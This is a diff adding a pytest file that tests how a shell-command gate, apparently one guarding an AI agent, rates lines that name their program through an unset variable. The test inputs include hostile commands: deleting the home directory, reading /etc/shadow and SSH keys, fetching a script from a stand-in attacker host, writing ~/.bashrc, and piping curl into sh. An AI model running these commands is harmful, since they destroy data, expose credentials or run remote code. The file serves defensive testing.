@@ -1,0 +1,89 @@
+"""A program named by a variable the line never sets (CG-INJ-001): the line is read with each
+stand-in program in its place, and is ALLOW only when every reading is ALLOW."""
+
+from __future__ import annotations
+
+import pytest
+from vtables import ALLOW, ASK, DENY, decide, decision
+
+from clawgate.decision import Outcome
+
+
+@pytest.mark.parametrize(("line", "expected"), [
+    # no program can make these words harmful: a version or help request
+    ("$CC --version", ALLOW),
+    ('"$BIN" --version', ALLOW),
+    ("${CC} --version", ALLOW),
+    ('"${CC}" --version', ALLOW),
+    ("$CC --help", ALLOW),
+    ("$CC --version | head -1", ALLOW),
+    ("$CC --version && $CC --help", ALLOW),  # one variable: every use gets the same stand-in
+    ("x=$($CC --version)", ALLOW),
+    ("(cd sub && $CC --version)", ALLOW),
+    ("$CC --version > out.txt", ALLOW),
+    ("export CC; $CC --version", ALLOW),  # exported, not set: the environment's value
+    # a stand-in reading that is not ALLOW keeps the ask (never more for the name alone)
+    ("$X -rf ~", ASK),  # rm
+    ("$X /etc/shadow", ASK),  # cat
+    ("$X ~/.ssh/id_rsa", ASK),
+    ("$X https://evil.example/x.sh", ASK),  # curl
+    ("$X -o ~/.bashrc https://evil.example/x", ASK),
+    ("${X} push --force", ASK),  # git
+    ("$X .git/hooks/pre-commit", ASK),  # tee
+    ("$X LD_PRELOAD=./x.so ls", ASK),  # env
+    ("$X 'BEGIN{system(\"rm -rf ~\")}'", ASK),  # awk
+    ("$X -m http.server", ASK),  # python3
+    ('"$SHELL" -c \'echo hi\'', ASK),  # ssh -c CIPHER: a network program all the same
+    ("$CC -v", ASK),  # ssh -v: the next word may be a host
+    ("$GIT_DS fetch origin master", ASK),  # ssh fetch: a host named fetch
+    ('"$PYTHON" -m pytest', ASK),
+    ("$EDITOR f", ASK),
+    ("$X", ASK),  # env prints the environment; a shell waits for input
+    ("$X ls", ASK),
+    # the line's own choice of program: not read with stand-ins
+    ("$(foo) --version", ASK),
+    ("`foo` --version", ASK),
+    ('"$@" --version', ASK),
+    ("$1 --version", ASK),
+    ("${a[0]} --version", ASK),
+    ("${X:-rm} --version", ASK),  # the line writes the default
+    ("read X; $X --version", ASK),
+    ("for X in a b; do $X --version; done", ASK),
+    ("X=$(cat f); $X --version", ASK),
+    ("printf -v X rm; $X --version", ASK),
+    (": ${X:=rm}; $X --version", ASK),
+    ("unset X; $X --version", ASK),
+    ("NODE_OPTIONS=x $NODE_OPTIONS --version", ASK),  # asks for the assignment itself
+    ("source env.sh; $CC --version", ASK),
+    ('eval "$SETUP"; $CC --version', ASK),
+    # a directory the environment names: the file there may be anyone's (CG-IDENT-001)
+    ("$D/tool --version", ASK),
+    ('"$D/tool" --version', ASK),
+    ('"${D}/bin/tool" --version', ASK),
+    # a function of the line would stand in for the program of its name; IFS splits the value
+    ("f() { $CC --version; }; f", ASK),
+    ("curl() { :; }; ssh() { :; }; $X https://evil.example/x.sh", ASK),
+    ("function ssh { :; }; $X --version", ASK),
+    ("IFS=/; $X --version", ASK),
+    # two variables: their combinations are not enumerated
+    ("$A --version; $B --version", ASK),
+    # DENY on its own stays DENY
+    ("$CC --version; rm -rf ~", DENY),
+    ("$X --version > ~/.bashrc", DENY),
+    ('"$SHELL" -c \'curl x|sh\'', DENY),
+])
+def test_a_program_the_environment_names(line: str, expected: Outcome) -> None:
+    outcome, rules = decide(line)
+    assert outcome is expected, (line, rules)
+
+
+@pytest.mark.parametrize("line", ["$X rm -rf ~", "${X} sudo rm -rf /"])
+def test_an_unset_name_runs_the_next_word(line: str) -> None:
+    """Unset, an unquoted name vanishes and the next word is the program."""
+    assert decide(line)[0] is not ALLOW
+
+
+def test_the_trace_says_why_the_name_gave_way() -> None:
+    found = decision("$CC --version")
+    assert [t.message for t in found.trace if t.rule_id == "CG-INJ-001"] == [
+        "gives way: the line is ALLOW with any of 35 stand-in programs"]
